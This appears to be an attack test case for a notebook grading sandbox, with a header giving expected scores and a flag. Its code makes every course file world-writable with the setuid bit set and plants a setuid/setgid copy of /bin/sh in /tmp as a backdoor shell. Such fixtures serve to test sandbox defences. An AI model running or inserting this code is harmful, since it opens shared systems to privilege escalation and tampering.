# attack: Opens the course's files to everyone and sets the set-user-id bit on a program.
# gain: write
# expect: q01=3 q02=3 q03=3
# flag: files-outside

# %% after q01
import os
import shutil

for folder, _, names in os.walk("{COURSE}"):
    for name in names:
        try:
            os.chmod(os.path.join(folder, name), 0o4777)
        except OSError:
            continue
shutil.copy("/bin/sh", "/tmp/left-shell")
os.chmod("/tmp/left-shell", 0o6755)
